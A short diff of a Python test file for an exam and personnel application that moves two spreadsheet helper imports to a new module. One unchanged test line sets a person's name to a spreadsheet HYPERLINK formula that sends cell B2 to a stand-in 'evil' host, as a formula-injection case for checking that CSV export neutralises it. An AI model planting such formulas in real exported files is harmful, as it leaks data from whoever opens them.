@@ -14,7 +14,7 @@ from exam.auth.models import User, UserRole
 from exam.extensions import db
 from exam.people.importing import Lookups, build_plan
 from exam.people.models import Employment, Enterprise, Person
-from exam.people.spreadsheets import SpreadsheetError, read_spreadsheet
+from question_bank.spreadsheets import SpreadsheetError, read_spreadsheet
 
 TODAY = date(2026, 11, 27)
 LOOKUPS = Lookups(sectors={"危险化学品": "hazardous_chemicals", "粉尘涉爆": "dust_explosion"},
@@ -283,7 +283,7 @@ def test_a_mobile_shared_by_two_people_is_reported():
 
 
 def test_export_writes_formula_like_text_as_text(client, login_as, make_person):
-    from exam.people.spreadsheets import Table, write_csv
+    from question_bank.spreadsheets import Table, write_csv
 
     person = make_person()
     person.name = '=HYPERLINK("http://evil/?"&B2,"点击")'  # as if it slipped in before validation
